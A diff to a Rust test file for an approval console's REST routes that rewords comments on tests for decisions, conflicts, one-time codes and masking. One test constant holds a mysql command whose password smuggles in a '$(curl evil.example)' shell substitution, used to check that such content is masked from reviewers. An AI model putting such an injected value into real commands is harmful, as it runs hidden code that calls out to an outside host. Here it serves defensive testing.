@@ -1,4 +1,5 @@
-//! The REST routes: list, show, decide, several at once, withdraw, settle, audit, tasks, numbers.
+//! The REST routes: list, show, decide, bulk decisions, withdraw, resolve, audit, tasks,
+//! statistics.
 
 use crate::support;
 
@@ -166,7 +167,7 @@ async fn an_edit_is_checked_and_runs_as_it_was_edited() {
     let call = get(&path).by(ANN).of(&console).await.ok();
     let arguments = call["argumentsText"].as_str().unwrap();
     assert!(arguments.contains("\"bags\":2") && arguments.contains("120.5"), "{arguments}");
-    // What was shown before is no longer what stands.
+    // The binding that was shown before is no longer current.
     let late = answer(&request, json!({ "answer": "approve" }));
     let refused = post(format!("{path}/decide"), &late).by(BOB).of(&console).await;
     assert_eq!(refused.status.as_u16(), 409);
@@ -210,7 +211,7 @@ async fn invariant_4_the_second_reviewer_is_told_what_stands() {
     let lost = post(&path, &reject).by(BOB).of(&console).await;
     assert_eq!(lost.refused(), (409, "decided".into()));
     assert_eq!(lost.json()["error"]["current"]["decided"]["by"], "ann");
-    // The same decision again is harmless.
+    // Repeating the same decision is harmless.
     post(&path, &approve).by(ANN).of(&console).await.ok();
     assert_eq!(record(&gate, request.id).await.version(), 2);
 }
@@ -466,7 +467,7 @@ async fn the_document_describes_every_route_and_the_request_as_it_is() {
     }
 }
 
-/// Which routes take a one-time code, and how it is refused.
+/// Compares the routes that take a one-time code, and their refusals.
 #[tokio::test]
 async fn the_document_says_where_a_one_time_code_goes() {
     let (_gate, console) = console().await;
@@ -494,7 +495,7 @@ async fn the_document_says_where_a_one_time_code_goes() {
     }
 }
 
-/// A command whose password holds what a shell runs.
+/// A command whose password contains shell code.
 const COMMAND: &str = "mysql --password=\"aB3dE6gH$(curl evil.example)\" -h db";
 
 async fn masked(gate: &Gate) -> hitl::ApprovalRequest {
@@ -515,7 +516,7 @@ async fn invariant_9b_a_reviewer_uncovers_what_is_masked_and_the_audit_says_so()
     for text in [card.to_string(), list.text] {
         assert!(!text.contains("aB3dE6gH") && !text.contains("curl"), "{text}");
     }
-    // Only who may decide what was shown.
+    // Only a reviewer who may decide the call can uncover it.
     let uncover = |body: &Value| post(format!("{path}/uncover"), body);
     assert_eq!(uncover(&shown(&request)).of(&console).await.refused().0, 403);
     let other = uncover(&shown(&request)).by("other-secret").of(&console).await.refused();
